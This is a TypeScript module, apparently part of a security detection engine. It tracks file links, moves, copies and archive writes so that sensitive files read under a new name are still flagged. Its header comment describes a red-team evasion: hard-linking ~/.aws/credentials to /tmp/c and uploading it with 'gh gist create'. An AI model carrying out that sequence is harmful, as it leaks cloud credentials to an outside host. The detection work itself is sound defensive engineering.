/**
 * A file renamed or linked under another name is read later by that name, which says nothing: `ln
 * ~/.aws/credentials /tmp/c` (a hard link: no read at all) or `mv` it, then `gh gist create /tmp/c` reads
 * `/tmp/c`. Found by red-team review: that push was `low` where reading the file directly makes it `high`.
 * The link's own command line names the source, so a sensitive source counts as a sensitive access by the
 * process that linked it (engine.ts onExec). `cp` is here too: `cp --reflink`/`-l` copy without a read.
 * A link made without an exec (`os.link()` in a script) is not seen. `rsync` on the node is a copy too
 * (./rsync-copies.ts), and so is an archive file `tar` creates (./tar-copies.ts); relative paths start at the exec's working directory (./copy-paths.ts).
 * `dd if= of=`, `zip` and `7z` archives (./archive-copies.ts) and what a shell's inline script copies by
 * redirections and pipes (./shell-copies.ts) are copies too.
 */

import { TAR_PROGRAMS } from '../rules/tar-command.js';
import { ddCopy, sevenZipCopy, zipCopy } from './archive-copies.js';
import {
  absoluteSource,
  absoluteTarget,
  intoByName,
  intoByPath,
  NO_RELINK,
  namesDirectory,
  type Relink,
} from './copy-paths.js';
import { ExecLine } from './exec-line.js';
import { rsyncCopy } from './rsync-copies.js';
import { copiesOf, EVERY_SCRIPT, type ShellScriptReader } from './shell-copies.js';
import { tarCopy } from './tar-copies.js';

export type { Relink } from './copy-paths.js';

const RELINKERS = new Set(['ln', 'link', 'mv', 'cp', 'install', 'rsync', ...TAR_PROGRAMS, 'dd', 'zip']);
const SEVEN_ZIPS = new Set(['7z', '7za', '7zr', '7zz']);
/**
 * `install SRC DEST` copies as `cp` does (`install -m 600 token /workspace/t`); its `-m`, `-o`, `-g` take a
 * value, and `-d` makes directories of every word, copying nothing.
 */
const INSTALL_VALUE_OPTIONS: ReadonlyArray<[string, number]> = [
  ['--mode', 3],
  ['--owner', 3],
  ['--group', 3],
  ['--strip-program', 9],
];

/**
 * What a `ln`/`link`/`mv`/`cp`/`install`/`rsync`/`tar`/`dd`/`zip`/`7z` command line, or a shell's inline script,
 * names (./copy-paths.ts `Relink`). `cwd` is the exec's working directory, where relative paths start; without it
 * a relative destination is unknown. `argvCount`: ProcessRef.argvCount (Falco's unquoted argv).
 */
export function relinked(
  binary: string | null,
  args: string | null,
  cwd: string | null = null,
  argvCount?: number,
  scripts: ShellScriptReader = EVERY_SCRIPT,
): Relink {
  return relinkOf(new ExecLine(binary, args, cwd, argvCount, scripts));
}

/** The same, of an exec's line as its other readers share it (./exec-writes.ts). */
export function relinkOf(line: ExecLine): Relink {
  // Called for every exec: the name is checked before any argv is split.
  const tool = line.tool;
  if (line.shell) return copiesOf(line.scriptWrites());
  if (!RELINKERS.has(tool) && !SEVEN_ZIPS.has(tool)) return NO_RELINK;
  const words = line.words;
  const base = line.base;
  if (tool === 'rsync') return rsyncCopy(words, base);
  const tar = line.tar;
  if (tar !== null) return tarCopy(tar, base);
  if (tool === 'dd') return ddCopy(words, base);
  if (tool === 'zip') return zipCopy(words, base);
  if (SEVEN_ZIPS.has(tool)) return sevenZipCopy(words, base);
  const install = tool === 'install';
  const positionals: string[] = [];
  let targetGiven = false;
  let targetDir: string | null = null;
  let recursive = false;
  // `cp --parents a/b/token /w` copies to `/w/a/b/token` (getopt_long prefix: `--pa`).
  let parents = false;
  let symbolic = false;
  for (let i = 0; i < words.length; i++) {
    const w = words[i]!;
    if (w === '--') {
      positionals.push(...words.slice(i + 1));
      break;
    }
    if (w.length < 2 || w[0] !== '-') positionals.push(w);
    else if (w[1] === '-') {
      // getopt_long takes any unambiguous prefix: `--t`…`--target-directory`, `--su`…`--suffix` (found by
      // review: `--target=/tmp` made the source the destination).
      const eq = w.indexOf('=');
      const name = eq < 0 ? w : w.slice(0, eq);
      const target = name.length >= 3 && '--target-directory'.startsWith(name);
      if (target) {
        targetGiven = true;
        targetDir = eq < 0 ? (words[i + 1] ?? null) : w.slice(eq + 1);
      }
      if (install && name.length >= 4 && '--directory'.startsWith(name)) return NO_RELINK;
      if ((name.length >= 5 && '--recursive'.startsWith(name)) || (name.length >= 4 && '--archive'.startsWith(name)))
        recursive = true;
      if (tool === 'cp' && name.length >= 4 && '--parents'.startsWith(name)) parents = true;
      if (name.length >= 4 && '--symbolic'.startsWith(name)) symbolic = true;
      const valued = install && INSTALL_VALUE_OPTIONS.some(([o, min]) => name.length >= min && o.startsWith(name));
      if ((target || valued || (name.length >= 4 && '--suffix'.startsWith(name))) && eq < 0) i++;
    } else {
      // Short options bundle (`-ft DIR`, `-ft/dir`, `-bS .old`): `-t` and `-S` take the rest or the next word
      // (install's `-m`, `-o`, `-g` too: `-m600`, `-m 600`).
      for (let j = 1; j < w.length; j++) {
        const letter = w[j]!;
        if (install && letter === 'd') return NO_RELINK;
        if (letter === 'r' || letter === 'R' || letter === 'a') recursive = true;
        if (letter === 's') symbolic = true;
        if (letter !== 't' && letter !== 'S' && !(install && 'mog'.includes(letter))) continue;
        if (letter === 't') {
          targetGiven = true;
          targetDir = j === w.length - 1 ? (words[i + 1] ?? null) : w.slice(j + 1);
        }
        if (j === w.length - 1) i++;
        break;
      }
    }
  }
  // `ln SRC` links into the working directory; otherwise the last word is the destination (none with options
  // alone: `cp --version`).
  const named = targetGiven || positionals.length === 1;
  const given = named ? positionals : positionals.slice(0, -1);
  const destination = targetGiven ? targetDir : named ? (tool === 'ln' ? '.' : null) : (positionals.at(-1) ?? null);
  const target = absoluteTarget(destination, base);
  const intoDirectory = named || given.length > 1 || (destination !== null && namesDirectory(destination));
  // A relative symbolic link's source is relative to the link's directory, not to the working directory.
  const linkDir =
    tool === 'ln' && symbolic
      ? target === null || intoDirectory
        ? target
        : target.slice(0, target.lastIndexOf('/')) || '/'
      : base;
  const sources = given.map((p) => absoluteSource(p, linkDir));
  return {
    sources,
    target,
    intoDirectory,
    filesOnly: install || (tool === 'cp' && !recursive),
    into:
      target === null ? [] : given.map((p, i) => (parents ? intoByPath(target, p) : intoByName(target, sources[i]!))),
  };
}
